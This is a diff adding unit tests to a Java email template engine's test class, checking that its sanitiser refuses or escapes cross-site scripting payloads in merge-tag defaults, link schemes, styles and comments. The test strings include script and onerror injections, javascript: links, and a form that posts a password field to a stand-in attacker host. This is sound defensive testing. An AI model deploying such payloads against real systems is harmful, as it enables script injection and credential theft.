@@ -112,6 +112,60 @@ class ContentEngineTest {
                         "color:red", "alt=\"Logo\"");
     }
 
+    /** The payload of the sanitiser bypass: a default holding {{ and markup, kept whole by the sanitiser's tag guard. */
+    static final String BYPASS = "<p>Hi {{zz|{{<img src=x onerror=alert(1)><form action=https://evil.example/steal>"
+            + "<input name=pw></form><script>alert(2)</script><iframe src=https://evil.example></iframe>"
+            + "<a href=javascript:alert(3)>x</a>}}</p>";
+
+    @Test
+    void aDefaultHoldingMergeTagOpenersAndMarkupIsRefused() {
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", BYPASS, null)))
+                .isInstanceOf(ValidationException.class).hasMessageContaining("line 1").hasMessageContaining("{{");
+        assertThatThrownBy(() -> engine.keepsMergeTag(BYPASS, "unsubscribe_url")).isInstanceOf(ValidationException.class);
+    }
+
+    @Test
+    void aDefaultIsPlainTextInTheHtmlPart() {
+        var out = render("Hi {{name|<b>you</b>}}", "<p>Dear {{name|<img src=x onerror=alert(1)> &amp; co}}</p>", null, Map.of());
+        assertThat(out.html()).contains("Dear &lt;img src").contains("alert(1)&gt; &amp; co").doesNotContain("<img", "&amp;amp;");
+        assertThat(out.subject()).isEqualTo("Hi <b>you</b>");
+        assertThat(engine.sanitize("<p>{{name|a}b{c &amp; d}}</p>")).isEqualTo("<p>{{name|a}b{c &amp; d}}</p>");
+        assertThat(render("s", "<p>{{name|a}b{c}}</p>", null, Map.of()).html()).isEqualTo("<p>a}b{c</p>");
+    }
+
+    @Test
+    void aMergeValueCannotChooseALinksScheme() {
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><a href=\"{{site}}\">x</a></p>", null)))
+                .isInstanceOf(ValidationException.class).hasMessageContaining("{{site}}");
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><a href=\"java{{rest}}\">x</a></p>", null)))
+                .isInstanceOf(ValidationException.class);
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p><img src=\"{{picture}}\"></p>", null)))
+                .isInstanceOf(ValidationException.class);
+        var out = render("s", "<p><a href=\"https://shop.example/{{code}}\">a</a> <a href=\"{{webview_url}}\">b</a>"
+                + " <a href=\"mailto:{{email}}\">c</a></p>", null, Map.of("code", "javascript:alert(1)", "webview_url",
+                "https://optline.example/s/view/t", "email", "a@b.example"));
+        assertThat(out.html()).contains("href=\"https://shop.example/javascript:alert(1)\"", "href=\"https://optline.example/s/view/t\"",
+                "href=\"mailto:a@b.example\"");
+    }
+
+    @Test
+    void aMergeTagCannotWriteStylesOrSpanAnAttribute() {
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s", "<p style=\"font-family: {{font}}\">x</p>", null)))
+                .isInstanceOf(ValidationException.class).hasMessageContaining("style");
+        assertThatThrownBy(() -> engine.compile(new ContentEngine.Source("s",
+                "<p><a title=\"{{#vip}}\" href=\"https://x.example\">x</a>{{/vip}}\" onclick=\"alert(1)\"</p>", null)))
+                .isInstanceOf(ValidationException.class);
+        var out = render("s", "<p><a href=\"https://x.example\" title=\"{{#vip}}VIP {{/vip}}{{name|friend}}\">{{#vip}}<b>Hi</b>{{/vip}}</a></p>",
+                null, Map.of());
+        assertThat(out.html()).isEqualTo("<p><a href=\"https://x.example\" title=\"friend\"></a></p>");
+    }
+
+    @Test
+    void commentsAreDroppedBeforeSanitising() {
+        var content = engine.compile(new ContentEngine.Source("s", "<p>a{{! <script>alert(1)</script> }}b</p>", null));
+        assertThat(content.sanitizedHtml()).isEqualTo("<p>ab</p>");
+    }
+
     @Test
     void theTextPartIsReadable() {
         String text = engine.textFromHtml("""
